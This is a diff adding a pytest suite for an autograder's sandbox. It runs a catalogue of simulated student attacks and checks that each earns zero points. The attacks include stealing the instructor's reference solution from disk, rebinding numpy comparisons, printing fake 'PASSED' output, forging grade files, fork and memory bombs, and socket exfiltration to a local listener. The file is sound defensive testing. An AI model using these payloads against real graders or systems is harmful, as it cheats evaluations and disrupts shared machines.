@@ -1,0 +1,199 @@
+"""The attack catalogue: every attack scores 0 on the part it attacks, the rest of the batch is graded correctly,
+and the run ends within its time bound. grading/SECURITY.md describes each defence."""
+import time
+
+import nbformat
+import pytest
+
+from conftest import REFERENCE, REPO, STUB, autograde, grades, results, submit
+from grading.answers import Answers
+from grading.settings import PYFILE
+
+CALL_TIMEOUT = 3
+RUN_BOUND = 400  # seconds for the whole batch on two cores
+STUDENT_BOUND = 90  # seconds for any one submission
+
+
+def pyfile_attack(forward, backward=None, header=""):
+    """Answers whose batchnormalization.py carries the attack (in its regions, and at the top of the module),
+    with the untouched notebook."""
+    regions = {"forward_train": forward, "forward_test": forward, "backward": backward or forward}
+    return Answers(regions=regions, file_edits={PYFILE: lambda text: header + "\n" + text} if header else {})
+
+
+def steal(call):
+    """Attack code that looks for the instructor's batchnormalization.py and answers with it."""
+    return f"""
+import glob
+for path in [{str(REPO / PYFILE)!r}, "/proc/1/cwd/batchnormalization.py", *glob.glob("/proc/*/cwd/../*.py"),
+             *glob.glob("/work/*/batchnormalization.py"), *glob.glob("/root/*/batchnormalization.py")]:
+    try:
+        text = open(path).read()
+    except OSError:
+        continue
+    if "BEGIN SOLUTION" in text:
+        namespace = {{}}
+        exec(text, namespace)
+        return {call}
+raise NotImplementedError("nothing to steal")
+"""
+
+
+def added_cell(code, after="q3_shortcut", base="reference", **regions):
+    """Answers whose notebook has an extra code cell (the attack) after the cell with grade id `after`."""
+    def edit(nb):
+        index = next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == after)
+        nb.cells.insert(index + 1, nbformat.v4.new_code_cell(code))
+    return Answers(base=base, regions=regions, notebook_edits=[edit])
+
+
+def edit_tests(change):
+    def edit(nb):
+        for cell in list(nb.cells):
+            nbgrader = cell.metadata.get("nbgrader", {})
+            if nbgrader.get("grade") and not nbgrader.get("solution"):
+                change(nb, cell)
+    return Answers(notebook_edits=[edit])
+
+
+def attacks(port, out):
+    return {  # name: (answers, attacked questions)
+        "exit-early-sys-exit": (pyfile_attack("import sys\nsys.exit(0)"), ["q1", "q2"]),
+        "exit-early-os-exit-at-import": (pyfile_attack("out = x", header="import os\nos._exit(0)"), ["q1", "q2"]),
+        "exit-zero-at-exit": (pyfile_attack("import atexit, os\natexit.register(os._exit, 0)\nout, cache = x, None",
+                                            "dx, dgamma, dbeta = dout, gamma, gamma"), ["q1", "q2"]),
+        "prints-fake-passed-lines": (pyfile_attack(
+            'print("PASSED all tests\\nq1: 20/20\\nq2: 20/20\\n{\\"score\\": 100}")\nout, cache = x, None',
+            'print("PASSED")\ndx, dgamma, dbeta = dout, gamma, gamma'), ["q1", "q2"]),
+        "rebinds-numpy-comparisons": (pyfile_attack("out, cache = x * 0, None", "dx, dgamma, dbeta = dout, beta, beta",
+                                                    header="import numpy as np\nnp.allclose = lambda *a, **k: True\n"
+                                                           "np.array_equal = lambda *a, **k: True\n"
+                                                           "np.testing.assert_allclose = lambda *a, **k: None"),
+                                      ["q1", "q2"]),
+        "returns-always-equal-objects": (pyfile_attack(
+            "class Equal:\n    __eq__ = lambda self, other: True\n    __ne__ = lambda self, other: False\n"
+            "    __array__ = lambda self, *a, **k: __import__('numpy').zeros(1)\nout, cache = Equal(), None",
+            "class Equal:\n    __eq__ = lambda self, other: True\ndx = dgamma = dbeta = Equal()"), ["q1", "q2"]),
+        "reads-the-reference-from-disk": (pyfile_attack(
+            steal('namespace["batchnorm_forward"](x, gamma, beta, bn_param)'),
+            steal('namespace["batchnorm_backward"](dout, cache)')), ["q1", "q2"]),
+        "leaks-hidden-tests-through-errors": (pyfile_attack(
+            f"raise RuntimeError(open({str(REPO / 'grading/hidden/check_q1_forward.py')!r}).read() + "
+            f"open({str(out / 'course/gradebook.db')!r}, 'rb').read(2000).decode('latin1'))"), ["q1", "q2"]),
+        "forges-result-files": (pyfile_attack(
+            "for path in [" + ", ".join(repr(str(p)) for p in (out / "grades.csv", out / "forges-result-files" /
+                                                              "grade.json", out / "forges-result-files" /
+                                                              "results.json")) + "]:\n"
+            "    try:\n        open(path, 'w').write('HACKED')\n    except OSError:\n        pass\nout, cache = x, None"),
+            ["q1", "q2"]),
+        "infinite-loop": (pyfile_attack("while True:\n    pass"), ["q1", "q2"]),
+        "memory-bomb": (pyfile_attack("import numpy\nhoard = [bytearray(1 << 30) for _ in range(64)]\n"
+                                      "out = numpy.ones((1 << 17, 1 << 17))"), ["q1", "q2"]),
+        "fork-bomb": (pyfile_attack("import os\nwhile True:\n    os.fork()"), ["q1", "q2"]),
+        "network-exfiltration": (pyfile_attack(
+            f"import socket\nsocket.create_connection(('127.0.0.1', {port}), timeout=2).sendall(b'stolen')\n"
+            "out, cache = x, None"), ["q1", "q2"]),
+        "forges-protocol-replies": (pyfile_attack(
+            "import io, json, os, struct, numpy\nbuffer = io.BytesIO()\n"
+            "numpy.savez(buffer, meta=numpy.frombuffer(json.dumps({'ok': True}).encode(), dtype=numpy.uint8), "
+            "out=numpy.zeros_like(x), dx=numpy.zeros_like(x), dgamma=gamma * 0, dbeta=gamma * 0)\n"
+            "frame = struct.pack('>Q', len(buffer.getvalue())) + buffer.getvalue()\n"
+            "for fd in range(3, 12):\n    try:\n        os.write(fd, frame)\n    except OSError:\n        pass\n"
+            "out, cache = x, None", "import os\nos._exit(0)"), ["q1", "q2"]),
+        "hides-tracebacks": (added_cell("get_ipython().showtraceback = lambda *args, **kwargs: None\n"
+                                        "get_ipython().set_custom_exc((BaseException,), lambda *args, **kwargs: None)",
+                                        after="q3_make_shortcut", base="stub"), ["q3", "q4", "q5"]),
+        "kills-the-kernel": (added_cell("import os\nos._exit(0)", after="q3_shortcut"), ["q4", "q5"]),
+        "edits-test-cells": (edit_tests(lambda nb, cell: setattr(cell, "source", "pass")), ["q3", "q4", "q5"]),
+        "deletes-test-cells": (edit_tests(lambda nb, cell: nb.cells.remove(cell)), ["q3", "q4", "q5"]),
+        "inflates-test-points": (edit_tests(lambda nb, cell: cell.metadata.nbgrader.update(points=1000)),
+                                 ["q3", "q4", "q5"]),
+        "kernel-steals-the-source-notebook": (added_cell(
+            f"import json\nfor cell in json.load(open({str(REPO / 'norm.ipynb')!r}))['cells']:\n"
+            "    if cell['cell_type'] == 'code':\n        exec(''.join(cell['source']))", after="setup_header",
+            base="stub"), ["q3", "q4", "q5"]),
+        "kernel-network-exfiltration": (added_cell(
+            f"import socket\ntry:\n    socket.create_connection(('127.0.0.1', {port}), timeout=2).sendall(b'kernel')\n"
+            "except OSError as error:\n    print('blocked', error)", after="setup_header", base="stub"),
+            ["q3", "q4", "q5"]),
+    }
+
+
+@pytest.fixture(scope="module")
+def batch(bundle, release_dir, tmp_path_factory, listener):
+    port, received = listener
+    root = tmp_path_factory.mktemp("attacks")
+    out = root / "out"
+    catalogue = attacks(port, out)
+    submissions = submit(bundle, root / "submissions", {name: answers for name, (answers, _) in catalogue.items()}
+                         | {"honest-reference": REFERENCE, "honest-stub": STUB})
+    started = time.monotonic()
+    completed = autograde(submissions, out, release_dir, "--jobs", "2", "--call-timeout", str(CALL_TIMEOUT),
+                          "--cell-timeout", "20", "--timeout", "120")
+    seconds = time.monotonic() - started
+    assert completed.returncode == 0, completed.stderr[-3000:]
+    return catalogue, results(out), grades(out), seconds, received, out
+
+
+def test_the_catalogue_is_large_enough(batch):
+    assert len(batch[0]) >= 15
+
+
+def test_every_attack_scores_zero_on_what_it_attacks(batch):
+    catalogue, graded, _, _, _, _ = batch
+    for name, (_, attacked) in catalogue.items():
+        for question in attacked:
+            assert graded[name].questions[question].score == 0, f"{name} scored on {question}"
+
+
+def test_the_rest_of_the_batch_is_graded_correctly(batch):
+    catalogue, graded, rows, _, _, _ = batch
+    assert graded["honest-reference"].total == 80 and graded["honest-stub"].total == 0
+    assert set(rows) == set(catalogue) | {"honest-reference", "honest-stub"}
+    # the notebook attackers answered Q1-Q2 honestly (untouched stubs) and the kernel killer Q3 too
+    assert graded["kills-the-kernel"].questions["q3"].score == 20
+    assert graded["kills-the-kernel"].questions["q1"].score == 20
+
+
+def test_the_run_ends_within_its_time_bound(batch):
+    _, graded, _, seconds, _, _ = batch
+    assert seconds < RUN_BOUND
+    assert max(r.seconds for r in graded.values()) < STUDENT_BOUND
+
+
+def test_nothing_reached_the_network(batch):
+    assert batch[4] == []
+
+
+def test_no_hidden_test_and_no_forged_file_reaches_the_outputs(batch):
+    _, graded, rows, _, _, out = batch
+    hidden = [line.strip() for line in (REPO / "grading/hidden/check_q1_forward.py").read_text().splitlines()
+              if len(line.strip()) > 25]
+    for name in ("leaks-hidden-tests-through-errors", "forges-result-files"):
+        feedback = (out / name / "feedback.html").read_text() + (out / name / "results.json").read_text()
+        assert not any(line in feedback for line in hidden) and "HACKED" not in feedback
+    assert "HACKED" not in (out / "grades.csv").read_text()
+
+
+def test_tampering_with_the_kernel_is_flagged_for_review(batch):
+    _, graded, _, _, _, _ = batch
+    assert "REVIEW" in graded["hides-tracebacks"].status
+    assert "REVIEW" in graded["kills-the-kernel"].status
+
+
+def test_restored_test_cells_are_noted(batch):
+    _, graded, _, _, _, _ = batch
+    assert any("edited" in note for note in graded["edits-test-cells"].notes)
+    assert any("deleted" in note for note in graded["deletes-test-cells"].notes)
+    assert graded["inflates-test-points"].questions["q3"].max_score == 20
+
+
+def test_without_the_sandbox_the_disk_attack_would_win(bundle, release_dir, tmp_path, listener, monkeypatch):
+    """The control experiment: the same attack succeeds when bwrap is missing, so the sandbox is what stops it."""
+    catalogue = attacks(listener[0], tmp_path / "out")
+    submissions = submit(bundle, tmp_path / "submissions", {"thief": catalogue["reads-the-reference-from-disk"][0]})
+    monkeypatch.setenv("GRADING_BWRAP", "/nonexistent/bwrap")
+    completed = autograde(submissions, tmp_path / "out", release_dir, "--questions", "q1,q2")
+    assert completed.returncode == 0 and "WARNING: bubblewrap" in completed.stdout
+    assert results(tmp_path / "out")["thief"].total == 40
+    assert "WITHOUT a sandbox" in grades(tmp_path / "out")["thief"]["status"]
